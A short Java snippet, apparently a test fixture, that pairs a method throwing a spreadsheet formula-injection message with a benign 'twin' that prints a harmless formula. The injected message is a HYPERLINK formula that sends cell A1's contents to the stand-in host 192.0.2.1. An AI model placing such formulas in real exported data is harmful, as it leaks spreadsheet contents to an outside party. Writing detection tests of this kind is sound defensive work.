// Throws a message that a spreadsheet runs.
static void attack(double[] x) throws Exception {
  throw new Error("=HYPERLINK(\"http://192.0.2.1/\" & A1)");
}

// The allowed twin: prints a formula.
static void attack(double[] x) throws Exception {
  System.out.println("=x - mean");
}
